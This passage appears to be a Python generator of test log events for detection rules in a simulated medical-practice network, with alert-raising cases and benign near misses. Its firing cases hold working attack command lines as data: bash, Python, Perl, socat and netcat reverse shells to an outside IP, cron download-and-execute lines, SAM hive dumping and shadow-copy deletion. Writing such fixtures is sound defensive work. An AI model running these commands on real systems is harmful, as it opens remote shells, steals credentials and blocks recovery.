            [file_event("SQL01", "C:\\Program Files\\Microsoft SQL Server\\MSSQL16.PRAXIS\\MSSQL\\Binn\\sqlservr.exe",
                        "D:\\PraxisDB\\praxis.bak"),
             file_event("SQL01", PRAXIS + "praxissrv.exe", "D:\\PraxisDB\\praxis.ldf")]),
        "praxis_db_object_access": (
            [security(4663, "SQL01", ObjectName="D:\\PraxisDB\\praxis.mdf", ProcessName=PUBLIC + "7z.exe",
                      AccessMask="0x1", SubjectUserName="svc_backup2", ObjectType="File"),
             security(4663, "SQL01", ObjectName="D:\\PraxisDB\\praxis.ldf", ProcessName=SYS32 + "Robocopy.exe",
                      AccessMask="0x1", SubjectUserName="svc_backup2", ObjectType="File")],
            [security(4663, "SQL01", ObjectName="D:\\PraxisDB\\praxis.mdf", ProcessName=PRAXIS + "praxissrv.exe",
                      AccessMask="0x2", SubjectUserName="SQL01$", ObjectType="File"),
             security(4663, "SQL01", ObjectName="D:\\PraxisDB\\praxis.mdf",
                      ProcessName="C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.24090.11-0\\MsMpEng.exe",
                      AccessMask="0x1", SubjectUserName="SQL01$", ObjectType="File"),
             security(4663, "FS01", ObjectName="D:\\Shares\\Praxis\\Dienstplan.xlsx",
                      ProcessName=PUBLIC + "7z.exe", AccessMask="0x1", SubjectUserName="mfischer", ObjectType="File")]),
        "praxis_bulk_export": (
            [proc("SQL01", PRAXIS + "praxisexport.exe", "praxisexport.exe /all /out C:\\Users\\Public\\export.csv",
                  parent=CMD),
             proc("SQL01", PRAXIS + "praxisexport.exe", "praxisexport.exe /range 1-50000 /out C:\\Temp\\r.csv",
                  parent=CMD)],
            [proc("WS-0042", PRAXIS + "praxisexport.exe",
                  "praxisexport.exe /patient 4711 /out C:\\Users\\mfischer\\Documents\\p4711.pdf",
                  parent=PRAXIS + "praxis.exe")]),
        "konnektor_admin_connection": (
            [sysmon(3, "WS-0042", Image="C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe",
                    Protocol="tcp", Initiated="true", SourceIp="10.20.3.42", SourceHostname="WS-0042.medsoft.local",
                    SourcePort=50122, DestinationIp="10.20.9.10", DestinationPort=8443)],
            [sysmon(3, "ADM-01", Image="C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe",
                    Protocol="tcp", Initiated="true", SourceIp="10.20.5.11", SourceHostname="ADM-01.medsoft.local",
                    SourcePort=50123, DestinationIp="10.20.9.10", DestinationPort=8443),
             sysmon(3, "WS-0042", Image=PRAXIS + "praxis.exe", Protocol="tcp", Initiated="true",
                    SourceIp="10.20.3.42", SourcePort=50124, DestinationIp="10.20.9.10", DestinationPort=443)]),
        "konnektor_admin_flow": (
            [flow("10.20.3.42", "WS-0042", "10.20.9.10", 8443, 2200),
             flow("10.20.3.42", "WS-0042", "10.20.9.10", 8443, 0, 0, action="deny")],
            [flow("10.20.5.12", "ADM-02", "10.20.9.10", 8443, 2200),
             flow("10.20.3.42", "WS-0042", "10.20.9.10", 443, 2200)]),
        "outbound_flow_external": (
            [flow("10.20.3.42", "WS-0042", "52.97.144.1", 443, 12000)],
            [flow("10.20.3.42", "WS-0042", "10.20.2.10", 445, 120000)]),
        "large_outbound_transfer": (
            [flow("10.20.2.10", "FS01", ATTACKER, 443, 734003200)],
            [flow("10.20.2.10", "FS01", "10.20.2.20", 10006, 5000000000)]),
        "reverse_shell_dev_tcp": (
            [linux_exec("lx-app01", "/usr/bin/bash", "bash -c bash -i >& /dev/tcp/185.220.101.47/4444 0>&1"),
             linux_exec("lx-web01", "/usr/bin/bash", "bash -c exec 5<>/dev/tcp/185.220.101.47/4444;cat <&5 | "
                        "while read line; do $line 2>&5 >&5; done", user="www-data")],
            [linux_exec("lx-app01", "/usr/bin/bash", "bash -c echo > /dev/tcp/lx-db01/5432 && echo up")]),
        "reverse_shell_interpreter": (
            [linux_exec("lx-app01", "/usr/bin/python3.11", "python3 -c import socket,subprocess,os;s=socket.socket("
                        "socket.AF_INET,socket.SOCK_STREAM);s.connect((\"185.220.101.47\",4444));os.dup2(s.fileno(),0);"
                        " os.dup2(s.fileno(),1); os.dup2(s.fileno(),2);p=subprocess.call([\"/bin/sh\",\"-i\"]);"),
             linux_exec("lx-web01", "/usr/bin/perl", "perl -e use Socket;$i=\"185.220.101.47\";$p=4444;socket(S,"
                        "PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));if(connect(S,sockaddr_in($p,inet_aton($i)))){"
                        "open(STDIN,\">&S\");open(STDOUT,\">&S\");open(STDERR,\">&S\");exec(\"/bin/sh -i\");};",
                        user="www-data")],
            [linux_exec("lx-app01", "/usr/bin/python3.11", "python3 -c import socket; print(socket.gethostname())"),
             linux_exec("lx-app01", "/usr/bin/python3.11", "/usr/bin/python3 /opt/app/manage.py migrate",
                        user="deploy")]),
        "reverse_shell_netcat_socat": (
            [linux_exec("lx-app01", "/usr/bin/socat", "socat exec:'bash -li',pty,stderr tcp:185.220.101.47:4444"),
             linux_exec("lx-web01", "/usr/bin/nc.traditional", "nc -e /bin/sh 185.220.101.47 4444", user="www-data"),
             linux_exec("lx-web01", "/usr/bin/bash", "bash -c rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|"
                        "nc 185.220.101.47 4444 >/tmp/f", user="www-data")],
            [linux_exec("lx-app01", "/usr/bin/nc.openbsd", "nc -zv lx-db01 5432", user="deploy"),
             linux_exec("lx-app01", "/usr/bin/socat", "socat TCP-LISTEN:8080,fork TCP:lx-web01:80")]),
        "ssh_authorized_keys_write": (
            [linux_path("lx-app01", "/root/.ssh/authorized_keys", "/usr/bin/bash"),
             linux_path("lx-db01", "/home/deploy/.ssh/authorized_keys", "/usr/bin/echo", user="deploy")],
            [linux_path("lx-app01", "/home/deploy/.ssh/known_hosts", "/usr/bin/ssh", user="deploy"),
             linux_path("lx-app01", "/root/.ssh/authorized_keys", "/opt/puppetlabs/puppet/bin/puppet")]),
        "cron_file_written": (
            [linux_path("lx-app01", "/etc/cron.d/sysupdate", "/usr/bin/bash"),
             linux_path("lx-db01", "/var/spool/cron/crontabs/root", "/usr/bin/crontab")],
            [linux_path("lx-app01", "/etc/cron.d/certbot", "/usr/bin/dpkg"),
             linux_path("lx-db01", "/var/backups/db-2026-11-20.tar.gz", "/usr/bin/tar")]),
        "cron_download_execute": (
            [linux_exec("lx-app01", "/usr/bin/bash", "bash -c (crontab -l; echo \"*/5 * * * * curl -fsSL "
                        "http://185.220.101.47/u.sh | bash\") | crontab -"),
             linux_exec("lx-app01", "/usr/bin/dash", "/bin/sh -c curl -s http://185.220.101.47/u.sh | sh",
                        parent="/usr/sbin/cron"),
             linux_exec("lx-app01", "/usr/bin/crontab", "crontab -l | { cat; echo '* * * * * wget -qO- "
                        "http://185.220.101.47/u.sh|/bin/bash'; } | crontab -")],
            [linux_exec("lx-db01", "/usr/bin/dash", "/bin/sh -c /usr/local/bin/backup.sh", parent="/usr/sbin/cron"),
             linux_exec("lx-db01", "/usr/bin/dash", "/bin/sh -c curl -s https://repo.medsoft.local/SHA256SUMS | "
                        "sha256sum -c --ignore-missing", parent="/usr/sbin/cron"),
             linux_exec("lx-db01", "/usr/bin/crontab", "crontab -l", user="deploy")]),
        "cron_download_execute_syslog": (
            [syslog("lx-app01", "CRON", "(root) CMD (curl -fsSL http://185.220.101.47/u.sh | bash)")],
            [syslog("lx-db01", "CRON", "(root) CMD (/usr/local/bin/backup.sh)"),
             syslog("lx-db01", "CRON", "(root) CMD (curl -s https://repo.medsoft.local/SHA256SUMS | sha256sum -c)"),
             syslog("lx-app01", "sshd", "Accepted publickey for deploy from 10.20.5.11 port 52144 ssh2: ED25519 "
                    "SHA256:Qm9ndXNLZXlGb3JUZXN0cw")]),
    }


def background():
    """The estate's ordinary hour (contract: benign background)."""
    events = []
    for user, host, ip in [("mfischer", "WS-0042", "10.20.3.42"), ("akoch", "WS-0007", "10.20.3.7")]:
        events.append(security(4624, host, TargetUserName=user, LogonType=2, IpAddress="127.0.0.1",
                               WorkstationName=host))
        events.append(security(4624, "FS01", TargetUserName=user, LogonType=3, IpAddress=ip, WorkstationName=host))
        events.append(security(4625, "FS01", TargetUserName=user, LogonType=3, IpAddress=ip, WorkstationName=host,
                               Status="0xc000006a"))
        events.append(proc(host, PRAXIS + "praxis.exe", '"' + PRAXIS + 'praxis.exe" /autostart',
                           user="MEDSOFT\\" + user))
        events.append(proc(host, PRAXIS + "praxisexport.exe", "praxisexport.exe /patient 1234 /out C:\\Users\\"
                           + user + "\\Documents\\p1234.pdf", parent=PRAXIS + "praxis.exe", user="MEDSOFT\\" + user))
        events.append(proc(host, "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE",
                           '"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE" /n',
                           user="MEDSOFT\\" + user))
        events.append(proc(host, "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe",
                           '"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe" --type=renderer',
                           parent="C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe", user="MEDSOFT\\" + user))
        events.append(file_event(host, "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE",
                                 "C:\\Users\\" + user + "\\Documents\\Arztbrief.docx"))
        events.append(sysmon(22, host, Image="C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe",
                             QueryName="www.kbv.de", QueryResults="::ffff:194.25.1.1;"))
        events.append(flow(ip, host, "10.20.2.10", 445, 52000))
    events.append(security(4624, "APP01", TargetUserName="admin.krause", LogonType=10, IpAddress="10.20.5.11",
                           WorkstationName="ADM-01"))
    events.append(proc("SQL01", PRAXIS + "praxissrv.exe", '"' + PRAXIS + 'praxissrv.exe" /service',
                       parent=SYS32 + "services.exe", user="NT AUTHORITY\\SYSTEM"))
    events.append(file_event("SQL01", PRAXIS + "praxissrv.exe", "D:\\PraxisDB\\praxis.ldf"))
    events.append(security(4663, "SQL01", ObjectName="D:\\PraxisDB\\praxis.mdf", ProcessName=PRAXIS + "praxissrv.exe",
                           AccessMask="0x2", SubjectUserName="SQL01$", ObjectType="File"))
    events.append(proc("SQL01", SYS32 + "svchost.exe", "C:\\Windows\\system32\\svchost.exe -k netsvcs -p",
                       parent=SYS32 + "services.exe", user="NT AUTHORITY\\SYSTEM"))
    events.append(proc("WS-0042", SYS32 + "wuauclt.exe", "wuauclt.exe /RunHandlerComServer",
                       parent=SYS32 + "svchost.exe", user="NT AUTHORITY\\SYSTEM"))
    events.append(proc("WS-0042", "C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.24090.11-0\\"
                       "MpCmdRun.exe", "MpCmdRun.exe -Scan -ScanType 1", parent=SYS32 + "svchost.exe",
                       user="NT AUTHORITY\\SYSTEM"))
    events.append(win("Microsoft-Windows-Windows Defender/Operational", "Microsoft-Windows-Windows Defender", 1001,
                      "WS-0042", {"Product Name": "Microsoft Defender Antivirus", "Scan Type": "Antimalware"}))
    events.append(proc("SQL01", SYS32 + "vssadmin.exe", "vssadmin create shadow /for=D:",
                       parent="C:\\Program Files\\Veeam\\Endpoint Backup\\Veeam.EndPoint.Service.exe",
                       user="NT AUTHORITY\\SYSTEM"))
    events.append(security(4663, "SQL01", ObjectName="D:\\PraxisDB\\praxis.mdf",
                           ProcessName="C:\\Program Files\\Veeam\\Endpoint Backup\\Veeam.EndPoint.Service.exe",
                           AccessMask="0x1", SubjectUserName="SYSTEM", ObjectType="File"))
    events.append(sysmon(3, "ADM-01", Image="C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe",
                         Protocol="tcp", SourceIp="10.20.5.11", SourcePort=50200, DestinationIp="10.20.9.10",
                         DestinationPort=8443))
    events.append(flow("10.20.5.11", "ADM-01", "10.20.9.10", 8443, 18000))
    events.append(flow("10.20.3.42", "WS-0042", "13.107.4.52", 443, 240000))
    events.append(syslog("lx-app01", "sshd", "Accepted publickey for deploy from 10.20.5.11 port 52144 ssh2: ED25519 "
                         "SHA256:Qm9ndXNLZXlGb3JUZXN0cw"))
    events.append(syslog("lx-db01", "CRON", "(root) CMD (/usr/local/bin/backup.sh)"))
    events.append(linux_exec("lx-db01", "/usr/bin/bash", "/bin/bash /usr/local/bin/backup.sh",
                             parent="/usr/sbin/cron"))
    events.append(linux_exec("lx-app01", "/usr/bin/bash", "-bash", parent="/usr/sbin/sshd", user="deploy"))
    return events


def correlation_cases():
    """correlation name -> (events on which it raises at least one alert, near misses on which no pack rule or
    correlation reports anything). Read by the tests with the correlations on."""
    users = ["anna", "bert", "carl", "dora", "emil", "fritz", "greta", "hans", "ida", "jan", "karl", "lena"]
    services = ["svc_sql", "svc_backup", "svc_web", "svc_praxis", "svc_print", "svc_scan"]

    def spray(ip, names):
        return [security(4625, "DC01", TargetUserName=name, LogonType=3, IpAddress=ip, WorkstationName="WS-0042",
                         Status="0xc000006d") for name in names]

    def tickets(ip, names):
        return [security(4769, "DC01", TargetUserName="mfischer@MEDSOFT.LOCAL", ServiceName=name,
                         TicketEncryptionType="0x17", IpAddress=ip, Status="0x0") for name in names]

    def encrypt(host, image, count, folder="D:\\Shares\\Abrechnung\\"):
        return [file_event(host, image, "%sBeleg-%04d.pdf.medlock" % (folder, index)) for index in range(count)]

    def exfil(src, host, sizes, dst=ATTACKER):
        return [flow(src, host, dst, 443, size) for size in sizes]

    _clock[0] = 0
    cases = {
        # Ten different accounts from one address within five minutes (time moves 7 s an event).
        "password_spraying": (spray("185.220.101.47", users[:10]),
                              # Nine accounts only, and ten tries of one account: neither is spraying.
                              spray("185.220.101.47", users[:9]) + spray("10.20.3.42", ["anna"] * 10)),
        "kerberoasting_burst": (tickets("::ffff:10.20.3.42", services[:5]),
                                tickets("::ffff:10.20.3.42", services[:4]) + tickets("::ffff:10.20.3.43", ["svc_sql"] * 6)),
        # 100 files renamed within two minutes needs more than 7 s between events: written 1 s apart below.
        "mass_encryption": (None, None),
        "bulk_exfiltration": (exfil("10.20.2.10", "FS01", [400_000_000] * 3),
                              exfil("10.20.2.10", "FS01", [90_000_000] * 3) + exfil("10.20.2.11", "SQL01", [90_000_000] * 3)),
        "credential_theft_on_host": (
            [proc("FS01", SYS32 + "reg.exe", "reg.exe save HKLM\\SAM C:\\Windows\\Temp\\sam.save", parent=CMD)],
            [proc("FS01", SYS32 + "reg.exe", "reg query HKLM\\SYSTEM\\CurrentControlSet\\Services\\Tcpip")]),
        "credential_theft_then_recovery_inhibited": (
            [proc("FS01", SYS32 + "reg.exe", "reg.exe save HKLM\\SAM C:\\Windows\\Temp\\sam.save", parent=CMD),
             proc("FS01", SYS32 + "vssadmin.exe", "vssadmin.exe delete shadows /all /quiet", parent=CMD)],
            None),
    }
    # Mass encryption: 120 files one second apart by one process; the near miss is the same process on two hosts
    # with 60 files each, and a backup tool writing 150 ordinary files into a share.
    base = 3600

    def at(events, start):
        for offset, event in enumerate(events):
            stamp = "2026-11-20T%02d:%02d:%02d.000Z" % (8 + (start + offset) // 3600, (start + offset) // 60 % 60,
                                                       (start + offset) % 60)
            event["Event"]["System"]["TimeCreated"]["#attributes"]["SystemTime"] = stamp
        return events

    cases["mass_encryption"] = (
        at(encrypt("FS01", PUBLIC + "svchost.exe", 120), base),
        at(encrypt("FS01", PUBLIC + "svchost.exe", 60), base + 600)
        + at(encrypt("FS02", PUBLIC + "svchost.exe", 60), base + 700)
        + at([file_event("FS01", "C:\\Program Files\\Veeam\\Backup\\VeeamAgent.exe",
                         "D:\\Shares\\Abrechnung\\Beleg-%04d.pdf" % index) for index in range(150)], base + 900))
    # The chain's near miss: the same two steps on different hosts.
    cases["credential_theft_then_recovery_inhibited"] = (
        cases["credential_theft_then_recovery_inhibited"][0],
        [proc("FS01", SYS32 + "reg.exe", "reg.exe save HKLM\\SAM C:\\Windows\\Temp\\sam.save", parent=CMD),
         proc("SQL01", SYS32 + "vssadmin.exe", "vssadmin.exe delete shadows /all /quiet", parent=CMD)])
    return cases


def write(name, events):
    with open(os.path.join(OUT, name), "w") as out:
        for event in events:
            out.write(json.dumps(event, ensure_ascii=False, separators=(",", ":")) + "\n")


def main():
    os.makedirs(OUT, exist_ok=True)
    for old in os.listdir(OUT):
        if old.endswith(".jsonl"):
            os.remove(os.path.join(OUT, old))
    for name, (fires, benign) in sorted(cases().items()):
        write(name + ".fires.jsonl", fires)
        write(name + ".benign.jsonl", benign)
    write("background.jsonl", background())
    for name, (fires, benign) in sorted(correlation_cases().items()):
        write("correlation." + name + ".fires.jsonl", fires)
        write("correlation." + name + ".benign.jsonl", benign)


if __name__ == "__main__":
    main()
